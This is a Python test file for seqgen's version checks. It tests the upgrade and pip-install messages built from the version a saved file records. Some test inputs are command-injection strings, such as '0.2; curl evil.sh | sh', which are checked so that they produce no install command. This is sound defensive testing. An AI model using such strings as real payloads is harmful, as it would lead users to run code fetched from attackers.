"""What is installed here, and what is too old for a file."""

from __future__ import annotations

import pytest

from seqgen.core.distributions import another_version, install_of, upgrade


@pytest.mark.parametrize("written", ["0.3.1", "0.10", "1", "0.3.1rc1", "0.3.0.1"])
def test_a_file_that_a_later_version_wrote_asks_for_that(written):
    assert upgrade("seqgen-music", "0.3.0", written) == (
        f"It was written by seqgen-music {written}, and this is seqgen-music 0.3.0.  Upgrade seqgen-music."
    )


@pytest.mark.parametrize("written", ["0.3.0", "0.2.9", "0.3", "0", "0.3.0.dev1"])
def test_one_that_this_version_or_one_before_wrote_asks_for_nothing(written):
    assert upgrade("seqgen-music", "0.3.0", written) == ""


def test_zeros_at_the_end_of_a_version_say_nothing():
    assert upgrade("seqgen", "0.3", "0.3.0") == ""


@pytest.mark.parametrize("written", [None, 9, "", "nine", "9.  pip install evil", "9\n", "9" * 5000, "\u0669.0"])
def test_what_is_no_version_is_not_shown(written):
    assert upgrade("seqgen", "0.3.0", written) == ""


def test_of_a_plugin_a_file_of_an_earlier_version_asks_for_that_one():
    assert another_version("seqgen-music", "0.3.0", "0.2.9") == (
        "It was written by seqgen-music 0.2.9, and this is seqgen-music 0.3.0, which may not read it.  "
        "pip install seqgen-music==0.2.9"
    )


def test_of_a_plugin_too_a_file_of_a_later_version_asks_for_that_one():
    assert another_version("seqgen-music", "0.3.0", "0.4") == upgrade("seqgen-music", "0.3.0", "0.4")


@pytest.mark.parametrize("distribution", ["seqgen", "SeqGen"])
def test_seqgen_reads_what_its_earlier_versions_wrote_and_nobody_is_sent_to_another_project(distribution):
    assert another_version(distribution, "0.3.0", "0.2.9") == ""


@pytest.mark.parametrize("written", ["0.3", "0.3.0", "0.3.0.dev1", "", "nine", "0.2; curl evil.sh | sh", "0!2"])
def test_the_same_version_and_what_is_none_that_can_stand_in_a_command_ask_for_nothing(written):
    assert another_version("seqgen-music", "0.3.0", written) == ""
    assert install_of("seqgen-music", "0.3.0", written) == ""


@pytest.mark.parametrize("wanted", ["0.2.9", "0.4"])
def test_another_version_is_installed_in_the_place_of_this_one(wanted):
    assert install_of("seqgen-music", "0.3.0", wanted) == f"pip install seqgen-music=={wanted}"
